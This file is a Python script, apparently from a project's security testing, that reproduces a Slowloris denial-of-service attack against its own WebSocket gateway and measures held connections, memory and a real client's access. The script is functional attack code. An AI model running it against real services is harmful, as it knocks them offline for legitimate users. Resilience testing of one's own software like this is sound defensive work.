#!/usr/bin/env python3
"""Slowloris reproduction (issue 10, item 1; docs/security.md, "The edge").

Opens N sockets to a gateway, each sending a partial /ws upgrade request
followed by KB kilobytes of unterminated headers, then reports, over time,
how many of them the gateway still holds open and the gateway's RSS.

    scripts/slowloris.py --addr 127.0.0.1:8080 --pid PID -n 1000 --kb 375 --watch 30
    scripts/slowloris.py ... --probe-from 127.0.0.2   # and a real client's upgrade every 5 s

Exits 0 always: it measures, it does not judge. Needs a file limit above N.
"""
import argparse
import selectors
import socket
import time


def rss_mib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        return float("nan")
    return float("nan")


def probe(host, port, src):
    """A real client's /ws upgrade from address `src`: 'ok 12ms' or why not."""
    t = time.monotonic()
    try:
        s = socket.create_connection((host, int(port)), timeout=3, source_address=(src, 0))
        s.sendall(
            b"GET /ws?user=real HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n"
            b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        line = s.recv(64).split(b"\r\n")[0].decode(errors="replace")
        s.close()
    except OSError as e:
        return f"failed ({e.__class__.__name__}) after {(time.monotonic() - t) * 1000:.0f} ms"
    ok = line.startswith("HTTP/1.1 101")
    return f"{'ok' if ok else 'refused'} {line!r} in {(time.monotonic() - t) * 1000:.0f} ms"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", required=True)
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("-n", type=int, default=1000)
    ap.add_argument("--kb", type=int, default=375)
    ap.add_argument("--watch", type=float, default=30.0)
    ap.add_argument("--probe-from", default=None)
    a = ap.parse_args()
    host, port = a.addr.rsplit(":", 1)
    print(f"baseline RSS {rss_mib(a.pid):.0f} MiB")
    filler = b"X-Filler: " + b"a" * 1000 + b"\r\n"
    socks = []
    t0 = time.monotonic()
    for i in range(a.n):
        s = socket.create_connection((host, int(port)))
        s.setblocking(False)
        socks.append(s)
        try:
            s.send(b"GET /ws?user=slow HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n")
        except OSError:
            pass
    # Push the filler without blocking on any one socket.
    budget = {s: a.kb for s in socks}
    while budget and time.monotonic() - t0 < a.watch:
        for s in list(budget):
            try:
                s.send(filler)
                budget[s] -= 1
                if budget[s] <= 0:
                    del budget[s]
            except BlockingIOError:
                pass
            except OSError:
                del budget[s]
        if all(v > 0 for v in budget.values()) and len(budget) == 0:
            break
    print(f"sent: {a.n} sockets x up to {a.kb} KB in {time.monotonic() - t0:.1f} s")
    sel = selectors.DefaultSelector()
    open_socks = set(socks)
    for s in socks:
        sel.register(s, selectors.EVENT_READ)
    next_report = 0.0
    while True:
        el = time.monotonic() - t0
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                sel.unregister(s)
                open_socks.discard(s)
        if el >= next_report:
            line = f"t={el:5.1f}s open={len(open_socks):5d} rss={rss_mib(a.pid):.0f} MiB"
            if a.probe_from:
                line += " probe: " + probe(host, port, a.probe_from)
            print(line, flush=True)
            next_report += 5.0
        if el > a.watch:
            break
    for s in socks:
        s.close()
    time.sleep(2)
    print(f"after close: rss={rss_mib(a.pid):.0f} MiB")


if __name__ == "__main__":
    main()
